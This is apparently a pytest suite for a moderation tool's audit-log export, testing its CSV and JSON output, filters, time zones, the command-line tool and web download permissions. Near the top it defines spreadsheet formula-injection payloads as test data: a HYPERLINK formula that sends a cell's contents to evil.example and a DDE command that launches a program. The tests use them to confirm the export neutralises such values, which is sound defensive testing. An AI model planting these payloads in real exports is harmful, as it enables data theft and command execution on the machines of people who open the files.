"""Export of decisions (the audit log): the core, the command line and the web download."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest

from moderation import decision_export, decisions
from moderation.decision_export import DecisionFilter, export_decisions
from moderation.extensions import db
from moderation.models import Comment
from moderation.reports.filters import FilterError

UTC_ZONE = ZoneInfo("UTC")
HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_NOTE = "+1 -2 looked fine"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def decide(comment, status, who, when, **options):
    db.session.refresh(comment)
    decision = decisions.decide(db.session, comment.id, comment.version, status, who, **options)
    decision.created_at = at(when)
    db.session.commit()
    return decision


@pytest.fixture
def log(users, scored_thread):
    """Decisions on two articles by two moderators over three days, one undone."""
    t = scored_thread
    hostile = Comment(
        article_id=t.other_article.id, external_id="-5", position=2, author_name=HOSTILE_AUTHOR,
        body=HOSTILE_TEXT, content_hash="hostile-export",
    )  # fmt: skip
    db.session.add(hostile)
    db.session.commit()
    mod, mod2 = users["moderator"], users["moderator2"]
    first = decide(t.comments[0], "approved", mod, "2024-03-01 10:00")
    second = decide(t.comments[2], "spam", mod2, "2024-03-02 09:00", bulk=True)
    rejected = decide(t.hostile, "rejected", mod, "2024-03-02 11:00", reason="Abusive")
    undo = decisions.undo(db.session, rejected.id, mod)
    undo.created_at = at("2024-03-02 11:05")
    db.session.commit()
    hostile_decision = decide(hostile, "rejected", mod2, "2024-03-03 07:00", note=HOSTILE_NOTE)
    return SimpleNamespace(
        thread=t, hostile=hostile, first=first, second=second, rejected=rejected, undo=undo,
        hostile_decision=hostile_decision, mod=mod, mod2=mod2,
    )  # fmt: skip


def exported(fmt="csv", **filters) -> str:
    wanted = DecisionFilter.from_strings(**filters)
    return "".join(export_decisions(db.session, wanted, fmt, UTC_ZONE))


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_decision_with_its_comment_article_and_moderator(log):
    rows = csv_rows(exported())
    assert [int(row["decision_id"]) for row in rows] == [
        log.first.id, log.second.id, log.rejected.id, log.undo.id, log.hostile_decision.id
    ]  # fmt: skip
    first = rows[0]
    assert first == {
        **first,
        "time": "2024-03-01T10:00:00+00:00",
        "comment_id": str(log.thread.comments[0].id),
        "source_id": "c1",
        "article_id": str(log.thread.article.id),
        "article": "Huawei and Russia team up",
        "article_url": "https://example.org/huawei-russia",
        "author": "alice",
        "moderator": "moderator",
        "action": "approve",
        "from_status": "pending",
        "to_status": "approved",
        "bulk": "0",
        "undone_by_decision_id": "",
        "text": "Huawei's 5G deal with Russia is a smart move.",
    }
    assert list(first) == [column.key for column in decision_export.COLUMNS]
    undo = rows[3]
    assert (undo["action"], undo["from_status"], undo["to_status"]) == (
        "undo", "rejected", "pending"
    )  # fmt: skip
    assert undo["undoes_decision_id"] == str(log.rejected.id)
    assert rows[2]["undone_by_decision_id"] == str(log.undo.id)
    assert rows[2]["reason"] == "Abusive" and rows[1]["bulk"] == "1"


def test_filters_by_days_action_moderator_article_and_site(log):
    def ids(**filters):
        return [int(row["decision_id"]) for row in csv_rows(exported(**filters))]

    assert ids(since="2024-03-02", until="2024-03-02") == [
        log.second.id, log.rejected.id, log.undo.id
    ]  # fmt: skip
    assert ids(since="2024-03-03") == [log.hostile_decision.id]
    assert ids(until="2024-03-01") == [log.first.id]
    assert ids(action="reject") == [log.rejected.id, log.hostile_decision.id]
    assert ids(action="undo") == [log.undo.id]
    assert ids(moderator="moderator2") == [log.second.id, log.hostile_decision.id]
    assert ids(article=str(log.thread.other_article.id)) == [log.hostile_decision.id]
    assert ids(action="reject", moderator="moderator", article=str(log.thread.article.id)) == [
        log.rejected.id
    ]
    assert ids(site="elsewhere.example") == []


def test_days_are_in_the_report_time_zone(log):
    # In Los Angeles (UTC-8) 2 March runs from 08:00 UTC on the 2nd to 08:00 on the 3rd.
    wanted = DecisionFilter.from_strings(since="2024-03-02", until="2024-03-02")
    text = "".join(export_decisions(db.session, wanted, "csv", ZoneInfo("America/Los_Angeles")))
    assert [int(row["decision_id"]) for row in csv_rows(text)] == [
        log.second.id, log.rejected.id, log.undo.id, log.hostile_decision.id
    ]  # fmt: skip


def test_hostile_text_cannot_become_a_spreadsheet_formula(log):
    (row,) = csv_rows(exported(article=str(log.thread.other_article.id)))
    assert row["text"] == "'" + HOSTILE_TEXT
    assert row["author"] == "'" + HOSTILE_AUTHOR
    assert row["note"] == "'" + HOSTILE_NOTE
    assert row["source_id"] == "'-5"
    # Numbers are ours and left as they are.
    assert row["comment_id"] == str(log.hostile.id)
    # JSON is data, not a spreadsheet: the text exactly as it came.
    (decision,) = json.loads(exported("json", article=str(log.thread.other_article.id)))[
        "decisions"
    ]
    assert decision["text"] == HOSTILE_TEXT and decision["author"] == HOSTILE_AUTHOR


def test_json_names_its_filters_and_columns(log):
    document = json.loads(exported("json", since="2024-03-02", moderator="moderator"))
    assert document["filters"] == {
        "since": "2024-03-02", "moderator": "moderator", "timezone": "UTC"
    }  # fmt: skip
    assert document["columns"] == [column.key for column in decision_export.COLUMNS]
    assert [d["decision_id"] for d in document["decisions"]] == [log.rejected.id, log.undo.id]
    assert document["decisions"][0]["time"] == "2024-03-02T11:00:00+00:00"
    assert json.loads(exported("json", moderator="admin"))["decisions"] == []


def test_many_decisions_come_out_in_batches_in_order(log, monkeypatch):
    monkeypatch.setattr(decision_export, "BATCH", 2)
    ids = [int(row["decision_id"]) for row in csv_rows(exported())]
    assert ids == sorted(ids) and len(ids) == 5


def test_bad_filters_are_refused_before_anything_is_written(log):
    for filters, message in [
        ({"since": "2024-02-30"}, "since must be a date"),
        ({"since": "2024-03-03", "until": "2024-03-01"}, "since must not be after until"),
        ({"action": "delete"}, "action must be one of approve, reject, spam, escalate, undo"),
        ({"article": "x"}, "article must be an article's id"),
        ({"moderator": "nobody"}, "there is no account named 'nobody'"),
    ]:
        with pytest.raises(FilterError, match=message):
            export_decisions(db.session, DecisionFilter.from_strings(**filters), "csv", UTC_ZONE)


# --- The command line -------------------------------------------------------------------


def test_command_writes_csv_to_standard_output(runner, log):
    result = runner.invoke(args=["export-decisions", "--action", "reject"])
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.output)
    assert [int(r["decision_id"]) for r in rows] == [log.rejected.id, log.hostile_decision.id]
    assert rows[1]["text"] == "'" + HOSTILE_TEXT


def test_command_writes_json_to_a_file_with_filters(runner, log, tmp_path):
    path = tmp_path / "decisions.json"
    result = runner.invoke(
        args=[
            *("export-decisions", "--format", "json", "-o", str(path), "--since", "2024-03-02"),
            *("--until", "2024-03-02", "--moderator", "moderator2"),
        ]
    )
    assert result.exit_code == 0, result.output
    assert f"wrote {path}" in result.output
    document = json.loads(path.read_text())
    assert [d["decision_id"] for d in document["decisions"]] == [log.second.id]
    assert document["filters"]["moderator"] == "moderator2"


def test_command_refuses_bad_filters_and_writes_nothing(runner, log, tmp_path):
    (tmp_path / "exports").mkdir()
    path = tmp_path / "exports" / "out.csv"
    result = runner.invoke(args=["export-decisions", "--moderator", "nobody", "-o", str(path)])
    assert result.exit_code == 2 and "there is no account named 'nobody'" in result.output
    result = runner.invoke(args=["export-decisions", "--since", "March", "-o", str(path)])
    assert result.exit_code == 2 and "since must be a date like 2024-03-31" in result.output
    result = runner.invoke(args=["export-decisions", "--action", "delete"])
    assert result.exit_code == 2
    assert list(path.parent.iterdir()) == []


def test_command_keeps_the_earlier_file_when_the_export_fails(runner, log, tmp_path, monkeypatch):
    (tmp_path / "exports").mkdir()
    path = tmp_path / "exports" / "out.csv"
    path.write_text("earlier export\n")

    def failing(rows):
        yield "decision_id\r\n"
        raise OSError("disk full")

    monkeypatch.setattr(decision_export, "_csv", failing)
    result = runner.invoke(args=["export-decisions", "-o", str(path)])
    assert result.exit_code == 1 and f"cannot write {path}: disk full" in result.output
    assert path.read_text() == "earlier export\n"
    assert [p.name for p in path.parent.iterdir()] == ["out.csv"]


# --- The web ----------------------------------------------------------------------------


def test_moderators_download_a_streamed_csv(client, auth, log):
    auth.login_as("moderator")
    response = client.get("/exports/decisions.csv?action=reject&moderator=moderator2")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="decisions.csv"'
    (row,) = csv_rows(response.get_data(as_text=True))
    assert int(row["decision_id"]) == log.hostile_decision.id
    assert row["text"] == "'" + HOSTILE_TEXT


def test_admins_download_json_with_filters(client, auth, log):
    auth.login_as("admin")
    response = client.get(
        f"/exports/decisions.json?since=2024-03-02&until=2024-03-02&article={log.thread.article.id}"
    )
    assert response.status_code == 200 and response.mimetype == "application/json"
    document = json.loads(response.get_data(as_text=True))
    assert [d["decision_id"] for d in document["decisions"]] == [
        log.second.id, log.rejected.id, log.undo.id
    ]  # fmt: skip


def test_analysts_may_not_download_decisions(client, auth, log):
    auth.login_as("analyst")
    assert client.get("/exports/decisions.csv").status_code == 403


def test_a_bad_filter_is_a_plain_400(client, auth, log):
    auth.login_as("moderator")
    response = client.get("/exports/decisions.csv?since=yesterday")
    assert response.status_code == 400 and response.mimetype == "text/plain"
    assert "since must be a date" in response.get_data(as_text=True)


def test_the_export_form_is_shown_to_deciders_only(client, auth, log):
    auth.login_as("moderator")
    page = client.get("/reports/moderators?since=2024-03-01").get_data(as_text=True)
    assert 'action="/exports/decisions.csv"' in page
    assert 'formaction="/exports/decisions.json"' in page
    assert 'name="since" value="2024-03-01"' in page
    auth.login_as("admin")
    assert 'action="/exports/decisions.csv"' in client.get("/admin/decisions").get_data(
        as_text=True
    )
    auth.login_as("analyst")
    page = client.get("/reports/moderators").get_data(as_text=True)
    assert "/exports/decisions" not in page
